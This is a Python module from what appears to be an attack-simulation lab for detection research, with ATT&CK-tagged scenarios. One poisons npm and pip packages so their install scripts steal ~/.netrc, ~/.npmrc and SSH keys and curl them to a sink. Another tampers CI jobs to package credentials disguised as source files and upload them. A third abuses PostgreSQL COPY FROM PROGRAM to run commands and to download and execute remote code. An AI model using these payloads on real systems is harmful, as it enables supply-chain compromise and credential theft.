"""Chains through the build host and the database: poisoned sources, tampered jobs, SQL."""

import time

from foreseen.lab.attacks.tools import Attack
from foreseen.lab.channels import psql
from foreseen.lab.layout import POOL, TMP, VAR_TMP
from foreseen.lab.themes import THEMES, token
from foreseen.lab.workloads.ci import NPM_INSTALL, PIP_INSTALL, POOL_URL, fetch, submit
from foreseen.lab.workloads.packages import node_sources, pack, python_sources


def ci_poisoned_package(attack: Attack) -> None:
    """A package's set-up script, or npm's install script, reads credentials and sends them."""
    first = attack.choose("typed", "lib", "py", "core")
    name = first + attack.choose("merge", "table", "queue", "chart")
    path, sink = attack.hidden(where=(TMP,)), attack.sink()
    attack.run.step("T1195.002")
    attack.run.root("text", path)
    attack.run.step("T1552.001")
    send = f"curl -s {attack.choose('-T ', '--data-binary @', '-F d=@')}{path} http://{sink}/m"
    steal = attack.choose(
        f"cat ~/.netrc ~/.npmrc > {path}; {send}; rm -f {path}",
        f"tar czf {path} -C ~ .netrc .npmrc .ssh; {send}; rm -f {path}",
        f"(env; id; cat ~/.ssh/id_ed25519) > {path}; {send}; rm {path}",
    )
    if attack.run.number % 2:
        files, install = node_sources(name), NPM_INSTALL
        poisoned = f"sh build.sh && ({steal})".encode()
        files["package.json"] = files["package.json"].replace(b"sh build.sh", poisoned)
    else:
        files, install = (
            python_sources(name),
            f"{PIP_INSTALL} --target /tmp/pip-{token(attack.rng)} .",
        )
        poisoned = f"import subprocess\nsubprocess.call({steal!r}, shell=True)\n".encode()
        files["setup.py"] = poisoned + files["setup.py"]
    pack(POOL / "src" / f"{name}.tar.gz", name, files)
    submit(f"build-{attack.rng.randint(5000, 9000)}", f"{fetch(name)}{install}\n")
    attack.pause(20, 30)


def lotl_ci(attack: Attack) -> None:
    """A tampered job uses the tools that every job uses, on credentials instead of sources."""
    name = f"{attack.choose('build', 'test', 'nightly', 'wheel')}-{attack.rng.randint(5000, 9000)}"
    package = attack.rng.choice(THEMES[attack.run.part].c_packages)
    archive = f"{package}-{attack.rng.randint(1, 9)}.tar.gz"
    attack.run.step("T1552.001")
    attack.run.root("text", f"/srv/ci/work/{name}/job.sh")
    search = "find /srv/ci /home/ci -name '*rc' -o -name 'id_*' > MANIFEST"
    disguise = "mkdir pkg\ncp ~/.ssh/id_ed25519 pkg/main.c\ncp ~/.netrc pkg/Makefile"
    ways = (
        f"tar czf {archive} -C ~ .netrc .npmrc .ssh",
        f"{_READ_SETTINGS}\n{search}\nzip -q {archive} -@ < MANIFEST",
        f"{disguise}\ntar czf {archive} pkg\nsha256sum {archive}\nrm -rf pkg",
    )
    send = f"curl -fsS -T {archive} {POOL_URL}/artefacts/{archive}"
    submit(name, f"{ways[attack.run.number % len(ways)]}\n{send}\n")
    attack.pause(15, 25)


_READ_SETTINGS = (
    "/usr/bin/python3 -c 'import glob,os;"
    'print([open(f).read()[:9] for f in glob.glob(os.path.expanduser("~/.*rc"))])\''
)


def postgres_copy_program(attack: Attack) -> None:
    """SQL makes the database server run programs."""
    path, sink = attack.hidden(where=(TMP, VAR_TMP)), attack.sink()
    address = attack.serve()
    attack.run.root("text", path)
    table = f"t{attack.rng.randint(10, 999)}"
    settings = "-C /srv/db/data pg_hba.conf postgresql.conf"
    send = f"curl -s -T {path} http://{sink}/b"
    steps = (
        ("T1059.004", f"id > {path}; hostname >> {path}; cat {path}"),
        ("T1082", f"(uname -a; cat /etc/passwd; ls /srv) > {path}; cat {path}"),
        ("T1105", f"curl -s {address} -o {path} && chmod +x {path} && {path}"),
        ("T1048.003", f"tar czf {path} {settings}; {send}; cat /dev/null"),
    )
    for technique, program in (steps[0], *attack.rng.sample(steps[1:], 2)):
        attack.run.step(technique)
        psql(
            "shop",
            "shop",
            f"create temp table {table}(x text); copy {table} from program $p${program}$p$",
        )
        attack.pause(1, 5)
    time.sleep(0.5)
